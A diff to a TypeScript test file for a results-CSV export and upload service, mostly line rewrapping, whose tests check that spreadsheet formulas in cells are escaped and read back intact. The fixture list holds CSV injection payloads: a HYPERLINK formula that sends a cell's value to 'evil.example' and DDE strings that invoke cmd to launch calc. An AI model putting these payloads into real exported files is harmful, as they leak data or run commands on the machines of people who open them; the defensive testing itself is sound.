@@ -15,7 +15,7 @@ import { csvFile, drainBatches, fetchResults, uploadRaw } from './batch-helpers'
 const FORMULAS = [
   '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
   "+cmd|' /C calc'!A0",
-  '@SUM(1+9)*cmd|\' /C calc\'!A0',
+  "@SUM(1+9)*cmd|' /C calc'!A0",
   '-2+3',
   '\t=1+2',
   '\r=1+2',
@@ -44,13 +44,17 @@ describe('results CSV cells that a spreadsheet would run', () => {
   });
 
   it('leaves every other value as it was, the project’s own cells included', () => {
-    expect(resultsCsvRecord(row({ rowNumber: 12, transactionId: '1001', clickId: 'abc-1', merchantReferenceId: 'ORDER=1', cid: '100' }))).toBe(
-      '12,False,Permanent failure: Invalid transaction specified,1001,abc-1,ORDER=1,100\r\n',
-    );
+    expect(
+      resultsCsvRecord(
+        row({ rowNumber: 12, transactionId: '1001', clickId: 'abc-1', merchantReferenceId: 'ORDER=1', cid: '100' }),
+      ),
+    ).toBe('12,False,Permanent failure: Invalid transaction specified,1001,abc-1,ORDER=1,100\r\n');
   });
 
   it('reads back exactly what it wrote, a leading apostrophe of the value itself included', () => {
-    const results = [...FORMULAS, "'=already escaped", "'plain", "''"].map((value, i) => row({ rowNumber: i + 1, clickId: value, merchantReferenceId: value }));
+    const results = [...FORMULAS, "'=already escaped", "'plain", "''"].map((value, i) =>
+      row({ rowNumber: i + 1, clickId: value, merchantReferenceId: value }),
+    );
     expect(parseResultsCsv(formatResultsCsv(results))).toEqual(results);
     expect(csvValue("'-1")).toBe('-1');
     expect(csvValue("'x")).toBe("'x");
@@ -64,7 +68,11 @@ describe.each(testEngines())('every results CSV the project writes on %s', (engi
   async function uploadFormulas() {
     const { campaign } = await buildScene(context.server.services);
     const rows = FORMULAS.map((value) => [campaign.password as string, value, '', '', value]);
-    const upload = await uploadRaw(context.server.baseUrl, csvFile([['Password', 'ClickID', 'MerchantreferenceID', 'TransactionID', 'CID'], ...rows]), { filename: 'formulas.csv' });
+    const upload = await uploadRaw(
+      context.server.baseUrl,
+      csvFile([['Password', 'ClickID', 'MerchantreferenceID', 'TransactionID', 'CID'], ...rows]),
+      { filename: 'formulas.csv' },
+    );
     expect(upload.status).toBe(202);
     await drainBatches(context.server.services);
     return upload.body.id as number;
@@ -94,7 +102,10 @@ describe.each(testEngines())('every results CSV the project writes on %s', (engi
     const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'formulas-'));
     try {
       const file = path.join(dir, 'formulas.csv');
-      fs.writeFileSync(file, csvFile([['Password', 'ClickID'], ...FORMULAS.map((value) => [campaign.password as string, value])]));
+      fs.writeFileSync(
+        file,
+        csvFile([['Password', 'ClickID'], ...FORMULAS.map((value) => [campaign.password as string, value])]),
+      );
       const post = () => postModificationFile({ file, url: context.server.baseUrl, sleep: async () => undefined });
       const first = await post();
       expect(first).toMatchObject({ ok: true, summary: { posted: FORMULAS.length, failed: FORMULAS.length } });
